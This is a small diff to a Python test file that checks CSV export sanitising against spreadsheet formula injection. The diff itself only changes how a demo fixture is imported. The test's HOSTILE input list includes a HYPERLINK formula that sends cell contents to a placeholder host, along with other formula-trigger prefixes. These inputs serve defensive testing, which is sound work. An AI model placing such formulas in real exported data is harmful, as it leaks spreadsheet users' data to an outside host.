@@ -17,10 +17,10 @@ from pathlib import Path
 import pytest
 
 from careboard.safe_cells import RISKY_STARTS, csv_cell, write_table
+from careboard.synth.demo import DEMO_COUNCIL as COUNCIL
 from tests.cli_runs import DATA, assert_clean, run_cli
 
 HOSTILE = ['=HYPERLINK("http://x.example/?a"&A1,"click")', "+1", "-2", "@x", "\tA", "\rB", "=1+2"]
-COUNCIL = Path(__file__).parents[1] / "councils" / "demo.toml"
 
 
 def assert_inert_csv(text: str, numeric: set[str] = frozenset()) -> list[dict]:
